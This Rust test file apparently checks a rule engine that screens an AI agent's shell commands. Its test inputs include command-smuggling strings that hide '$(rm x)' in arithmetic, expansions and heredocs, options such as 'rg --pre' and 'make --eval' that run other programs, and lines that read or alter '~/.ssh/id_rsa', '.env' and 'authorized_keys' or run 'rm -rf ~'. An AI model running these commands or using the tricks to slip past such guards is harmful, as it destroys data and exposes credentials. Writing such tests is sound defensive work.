    fn regions_in_arithmetic_ignore_single_quotes() {
        for line in [
            "echo $(( '$(rm x)' ))",
            "(( '$(rm x)' ))",
            "echo $[ '$(rm x)' ]",
            "echo \"$(( '$(rm x)' ))\"",
            "a=(1); echo ${a['$(rm x)']}",
            "x=abc; echo ${x:'$(rm x)'}",
            "x=abc; echo ${x:1:'$(rm x)'}",
            "a['$(rm x)']=1",
            "printf -v 'a[$(rm x)]' x",
            "declare -i x; read x <<< 'a[$(rm x)]'",
            "for (( i='a[$(rm x)]'; i<1; i++ )); do :; done",
        ] {
            let found = substitution_regions(line);
            assert!(
                found.iter().any(|t| t.starts_with("rm x")),
                "{line}: {found:?}"
            );
        }
        for line in [
            "echo '$(rm x)'",
            "echo ${x:-'$(rm x)'}",
            "echo '[x]' '$(rm x)'",
        ] {
            assert!(substitution_regions(line).is_empty(), "{line}");
        }
    }

    /// What deny rules see of LINE: the commands of its reading and second looks.
    fn seen(line: &str) -> Vec<Vec<String>> {
        let (main, second) = gptel_rust_hooks::shell::read_for_rules(line);
        let all = main
            .commands
            .into_iter()
            .chain(second.into_iter().flat_map(|l| l.commands));
        all.map(|c| c.argv).collect()
    }

    fn sees(line: &str, argv: &[&str]) -> bool {
        seen(line).iter().any(|a| a == argv)
    }

    #[test]
    fn process_substitutions_in_unquoted_parameter_operands() {
        assert_eq!(substitution_regions("cat ${x:-<(rm y)}"), vec!["rm y"]);
        assert_eq!(substitution_regions("cat ${x#>(rm y)}"), vec!["rm y"]);
        assert_eq!(
            substitution_regions("echo ${x:-${y:-a<(rm y)}}"),
            vec!["rm y"]
        );
        // Quoted, they are text.
        assert!(substitution_regions("echo \"${x:-<(rm y)}\"").is_empty());
        assert!(substitution_regions("echo ${x:-\"<(rm y)\"}").is_empty());
        assert!(substitution_regions("cat <<E\n${x:-<(rm y)}\nE").is_empty());
        assert!(substitution_regions("echo \"${x:-a<b}\"").is_empty());
    }

    #[test]
    fn heredoc_operators_in_parameters_start_no_heredoc() {
        for line in [
            "echo ${x:1<<EOF}\nrm y\nEOF",
            "echo \"${x:1<<EOF}\"\nrm y\nEOF",
            "cat ${x#<<EOF}\nrm y\nEOF",
            "echo ${x:1<<<EOF}\nrm y",
        ] {
            assert!(sees(line, &["rm", "y"]), "{line:?}: {:?}", seen(line));
        }
    }

    #[test]
    fn heredocs_and_here_strings_are_scripts_on_lines_that_run_a_shell() {
        for line in [
            "bash /dev/stdin <<< 'rm x'",
            "{ bash; } <<E\nrm x\nE",
            "exec <<E\nrm x\nE\nbash",
            "bash /dev/stdin <<< $'rm\\x20x'",
            "bash /dev/stdin <<< \"rm \\\"x\\\"\"",
            "{ bash; } <<'E'\n{ bash; } <<< 'rm x'\nE",
            "bash -c '{ bash; } <<< \"rm x\"'",
            "{ echo ${x:-<(bash)}; } <<< 'rm x'",
            "s=bash; $s /dev/stdin <<< 'rm x'",
            "source /dev/stdin <<< 'rm x'",
        ] {
            assert!(sees(line, &["rm", "x"]), "{line:?}: {:?}", seen(line));
        }
        // Without a shell, they are data.
        for line in [
            "cat > notes.md <<'E'\nrm x\nE",
            "grep -c x <<< 'rm x'",
            "cat <<'E'\nbash -c 'rm x'\nE",
        ] {
            assert!(!sees(line, &["rm", "x"]), "{line:?}: {:?}", seen(line));
        }
    }
}

// The program table (issue 23): typed operands and the closed world.

/// Rule R matches the shell command LINE.
fn rule_matches(rule: serde_json::Value, line: &str) -> bool {
    let p = policy(json!([rule]));
    let c = call(json!({"name": "shell", "args": {"command": line}, "cwd": "/tmp/proj"}));
    eval::decide(&p, &c).matched == vec![0usize]
}

#[test]
fn table_patterns_exclusions_and_data_are_not_paths() {
    let deny = || json!({"path": ".env", "decision": "deny"});
    for line in [
        "grep -rn TODO --exclude=.env .",
        "find . -name .env -print",
        "basename ~/.ssh/id_rsa",
        "echo .env",
        "ls -la --ignore=.env",
        "rg -e .env -g '!.env' src",
        "sed -n /.env/p notes.txt",
    ] {
        assert!(!rule_matches(deny(), line), "{line}");
    }
    for line in [
        "cat .env",
        "grep x .env",
        "cp .env /tmp",
        "echo .env >> .env",
        "grep -f .env src",
        "sed -n 1p .env",
        "rg x .env",
        "find .env -newer a",
        // An option the table does not know: every word is a path again.
        "grep --frobnicate=.env x y",
        // A program the table does not know: every word is a path.
        "frob .env",
    ] {
        assert!(rule_matches(deny(), line), "{line}");
    }
    // The redirection target is still a path.
    let ssh = json!({"path": "~/.ssh/**", "decision": "deny"});
    assert!(!rule_matches(ssh.clone(), "basename ~/.ssh/id_rsa"));
    assert!(rule_matches(ssh, "echo x > ~/.ssh/authorized_keys"));
}

#[test]
fn table_options_that_run_commands_are_commands() {
    let allow_rg = || json!({"command-prefix": "rg", "decision": "allow"});
    assert!(rule_matches(allow_rg(), "rg -n TODO src"));
    assert!(!rule_matches(allow_rg(), "rg --pre 'rm -rf x' foo"));
    assert!(!rule_matches(allow_rg(), "rg --pre rm foo"));
    // An abbreviation rg refuses, or an unknown option: not certain.
    assert!(!rule_matches(allow_rg(), "rg --pr=rm foo"));
    assert!(!rule_matches(allow_rg(), "rg --frobnicate foo"));
    let deny_rm = || json!({"command-prefix": "rm", "decision": "deny"});
    assert!(rule_matches(deny_rm(), "rg --pre rm foo ."));
    assert!(rule_matches(deny_rm(), "fd -e o -x rm -f {} ;"));
    assert!(rule_matches(deny_rm(), "fdfind . -X rm"));
    assert!(rule_matches(deny_rm(), "make SHELL=rm all"));
    assert!(rule_matches(deny_rm(), "make --eval='x:;rm -rf y' x"));
    assert!(rule_matches(deny_rm(), "sort --compress-program=rm f"));
    let allow_fd = json!({"command-prefix": "fd", "decision": "allow"});
    assert!(rule_matches(allow_fd.clone(), "fd -e rs . src"));
    assert!(!rule_matches(allow_fd, "fd -x rm"));
    let allow_make = || json!({"command-prefix": "make", "decision": "allow"});
    assert!(rule_matches(allow_make(), "make -j4 test"));
    assert!(rule_matches(allow_make(), "make -C sub all"));
    assert!(!rule_matches(allow_make(), "make --eval='x:;rm -rf y' x"));
    assert!(!rule_matches(allow_make(), "make SHELL=/tmp/x all"));
}

#[test]
fn table_unknown_programs_only_by_a_rule_that_names_them() {
    let any = || json!({"command-regexp": ".*", "decision": "allow"});
    assert!(rule_matches(any(), "ls -la"));
    assert!(rule_matches(any(), "grep -rn x src | head -5"));
    assert!(!rule_matches(any(), "frobnicate --all"));
    assert!(!rule_matches(any(), "ls && frobnicate"));
    let named = json!({"command-regexp": "^frobnicate\\b", "decision": "allow"});
    assert!(rule_matches(named, "frobnicate --all"));
    let prefix = json!({"command-prefix": "frobnicate", "decision": "allow"});
    assert!(rule_matches(prefix, "frobnicate --all"));
    // `^frob.*` does not name `frobnicate`: it may be any program starting so.
    let loose = json!({"command-regexp": "^frob.*", "decision": "allow"});
    assert!(!rule_matches(loose, "frobnicate --all"));
}

/// A walk of a directory meets a rule on a path below it (issue 23): `grep -r x ~`,
/// `find ~` and a program given no path in `~` (`rg x`, `find`) open `~/.ssh/*`.
#[test]
fn table_walks_meet_rules_below_them() {
    let home_dir = home().to_string_lossy().into_owned();
    let matches_in = |line: &str, cwd: &str| {
        let p = policy(json!([{"path": "~/.ssh/**", "decision": "deny"}]));
        let c = call(json!({"name": "shell", "args": {"command": line}, "cwd": cwd}));
        eval::decide(&p, &c).matched == vec![0usize]
    };
    for line in [
        "grep -r key ~",
        "grep -r key /",
        "rg key ~",
        "find ~ -name id_rsa",
        "du -a ~",
        "tree -a ~",
        "ls -R ~",
        "cat ~/.ssh/id_rsa",
        "rm -rf ~",
        "rm --recursive ~/",
        "chmod -R go-rwx ~",
    ] {
        assert!(matches_in(line, "/tmp/proj"), "{line}");
    }
    for line in [
        "rg key",
        "grep -r key",
        "find",
        "fd id_rsa",
        "du",
        "tree",
        "ls -R",
    ] {
        assert!(matches_in(line, &home_dir), "{line} in ~");
        assert!(!matches_in(line, "/tmp/proj"), "{line} in /tmp/proj");
    }
    for line in [
        "ls ~",
        "ls",
        "grep key ~/notes",
        "find /etc",
        "du -a ~/proj",
        "rm -f ~/notes",
        "chmod 700 ~",
        "rm -rf ~/proj/build",
    ] {
        assert!(!matches_in(line, &home_dir), "{line}");
    }
}
